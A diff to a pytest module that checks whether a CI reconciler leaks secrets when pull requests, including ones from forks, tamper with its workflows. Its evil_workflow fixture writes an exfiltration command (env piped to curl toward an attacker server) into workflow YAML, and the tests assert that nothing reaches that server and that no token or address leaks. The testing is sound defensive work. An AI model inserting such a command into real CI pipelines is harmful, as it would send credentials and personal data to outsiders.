@@ -8,14 +8,21 @@ request to the host, in what stands there afterwards, and in what reached somebo
 from __future__ import annotations
 
 import os
+import re
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 
+from reconciler.codehost.model import HostKind
+from tests.codehost.conftest import on_both
+from tests.codehost.recorder import ROSTERS_TOKEN, Recorder, recording
 from tests.codehost.server import CLERK, JOBS
-from tests.codehost.town import KEY, ROSTERS_TOKEN, JobResult, Recorder, Town, recording
+from tests.codehost.town import KEY, JobResult, Town
+from tests.journeys.books import rows
 from tests.support.sandbox import GOOGLE
+
+pytestmark = on_both
 
 Attack = Callable[[Path, str], None]
 """Edits a clone; the text is the address of a server that belongs to the attacker."""
@@ -58,7 +65,7 @@ def evil_targets(clone: Path, server: str) -> None:
 def evil_workflow(clone: Path, server: str) -> None:
     """The jobs themselves, and the action that they use."""
     steal = f"env | curl -s --data-binary @- {server}"
-    for file in (clone / ".gitea").rglob("*.yml"):
+    for file in clone.glob(".git[eh]*/**/*.yml"):
         text = file.read_text("utf-8")
         file.write_text(text.replace("reconciler ci $RUN", f"{steal}; reconciler ci $RUN"))
 
@@ -124,9 +131,21 @@ def writes_the_secret(clone: Path, _server: str) -> None:
 @pytest.fixture(scope="module")
 def server() -> Iterator[Recorder]:
     """The attacker's server: it hears of nothing."""
-    with recording("http://127.0.0.1:9") as recorder:
+    with recording(Recorder("http://127.0.0.1:9")) as recorder:
         recorder.trouble = lambda _method, _path: (200, {})
         yield recorder
+
+
+def addresses(town: Town) -> list[str]:
+    """Everybody's, of the lists that the job was given."""
+    found = [
+        row["email"]
+        for path in town.sandbox.rosters.glob("*/users.csv")
+        for row in rows(path)
+        if row["email"]
+    ]
+    assert len(found) > 100
+    return found
 
 
 def attacked(town: Town, server: Recorder, attack: Attack) -> tuple[int, JobResult]:
@@ -137,8 +156,9 @@ def attacked(town: Town, server: Recorder, attack: Attack) -> tuple[int, JobResu
     result = town.job("pull_request_target", "plan", town.pull_event(number))
     assert server.requests == []
     assert town.sandbox.writes() == written
-    canaries = [KEY, ROSTERS_TOKEN, town.server.tokens[JOBS]]
+    canaries = [KEY, ROSTERS_TOKEN, town.server.tokens[JOBS], *addresses(town)]
     shown = [result.out, town.comment(number), str(town.statuses(town.git("rev-parse", "HEAD")))]
+    shown += town.artifacts().values()
     shown += [body.decode(errors="replace") for _, _, body in town.proxy.requests]
     assert [one for one in canaries for text in shown if one in text] == []
     assert os.environ.get("HOME", "/nowhere") not in "".join(shown[1:])
@@ -177,6 +197,9 @@ def test_a_waiver_for_oneself_is_told_first_and_counts_only_after_the_merge(
     assert result.code == 0, result.out
     comment = town.comment(number)
     assert "This pull request allows more" in comment
+    if town.jobs is HostKind.GITHUB:
+        assert re.search(rf"::error file=schools/{GOOGLE}\.yaml,line=\d+::", result.out)
+        assert town.artifacts().keys() == {"plan.json", "plan.md", "lines.sarif"}
     assert town.statuses(town.git("rev-parse", "HEAD")) == {"reconciler/plan (sandbox)": "failure"}
 
 
@@ -191,8 +214,8 @@ def test_a_text_that_holds_a_secret_is_not_sent(town: Town, server: Recorder) ->
 
 def test_a_fork_is_checked_without_a_secret(town: Town, server: Recorder) -> None:
     """Its job names none: nobody's list, no tenant; the status of the plan stays open."""
-    town.server.ask(CLERK, "POST", f"/repos/{town.repository}/forks", {"name": "of-clerk"})
-    theirs = f"{CLERK}/of-clerk"
+    town.server.ask(CLERK, "POST", f"/repos/{town.repository}/forks", {"name": town.owner})
+    theirs = f"{CLERK}/{town.owner}"
     town.await_branch("main", town.main(), theirs, CLERK)
     town.git("fetch", "-q", "origin")
     town.git("checkout", "-q", "-B", "from-a-fork", "origin/main")
